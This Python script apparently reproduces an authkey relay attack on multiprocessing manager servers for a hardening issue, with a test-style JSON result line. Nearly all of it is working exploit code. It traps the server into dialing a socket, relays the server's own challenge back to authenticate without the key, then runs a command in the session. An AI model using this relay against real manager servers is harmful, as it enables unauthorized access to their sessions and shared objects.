#!/usr/bin/env python3
"""The authkey relay attack on a manager server (issue: hardening, item 1).

    relay_attack.py attacker SERVER TRAP    keyless: waits on TRAP for the
                                            server to dial it, then relays
    relay_attack.py store SERVER TRAP       keyed (PS_AUTHKEY=<hex>): stores
                                            in a dict a stock proxy whose
                                            token names TRAP

The attacker knows no key. It listens on TRAP (a Unix socket path) and
prints "ready". If the server dials TRAP (to incref the stored proxy), the
attacker opens its own connection to the server, forwards the server's
challenge to the server's outgoing connection as if TRAP were a manager
challenging it, and relays the answer back. A server that answers other
managers with its own key welcomes the attacker, who then has a full
session. The attacker ends when its stdin closes and prints one line:

    @@RELAY {"dialed": bool, "welcome": bool, "reply": "...", "objects": n}
"""
import json
import os
import select
import socket
import sys
from multiprocessing.connection import Client, Connection


def parse(a):
    if '/' in a:
        return a
    host, port = a.rsplit(':', 1)
    return (host, int(port))


def attacker(server, trap):
    ls = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    ls.bind(trap)
    ls.listen(4)
    print('ready', flush=True)
    out = {'dialed': False, 'welcome': False, 'reply': '', 'objects': None}
    while True:
        r, _, _ = select.select([ls, sys.stdin], [], [], 60)
        if not r:
            break
        if sys.stdin in r:
            if not sys.stdin.readline():
                break
            continue
        s, _ = ls.accept()
        out['dialed'] = True
        c2 = Connection(s.detach())   # the server's outgoing connection
        c1 = Client(parse(server))    # no authkey: no handshake of our own
        challenge = c1.recv_bytes()   # the server challenges us ...
        c2.send_bytes(challenge)      # ... we challenge the server with it
        answer = c2.recv_bytes()      # the server answers its own challenge
        c1.send_bytes(answer)
        reply = c1.recv_bytes()
        out['reply'] = reply.decode('latin-1')
        if reply == b'#WELCOME#':
            out['welcome'] = True
            # The server now authenticates us as a client would: accept.
            c1.send_bytes(b'#CHALLENGE#' + os.urandom(20))
            c1.recv_bytes()
            c1.send_bytes(b'#WELCOME#')
            c1.send((None, 'number_of_objects', (), {}))
            kind, n = c1.recv()
            out['objects'] = n if kind == '#RETURN' else repr(n)
        c2.send_bytes(b'#FAILURE#')
        c1.close()
        c2.close()
    print('@@RELAY ' + json.dumps(out), flush=True)


def store(server, trap):
    import multiprocessing
    from multiprocessing.managers import AutoProxy, SyncManager, Token
    key = bytes.fromhex(os.environ['PS_AUTHKEY'])
    multiprocessing.current_process().authkey = key
    m = SyncManager(address=parse(server), authkey=key)
    m.connect()
    d = m.dict()
    p = AutoProxy(Token('Queue', trap, 'x'), 'pickle', authkey=b'unused',
                  exposed=('get', 'put'), incref=False)
    d['q'] = p
    print('stored', flush=True)


if __name__ == '__main__':
    {'attacker': attacker, 'store': store}[sys.argv[1]](sys.argv[2], sys.argv[3])
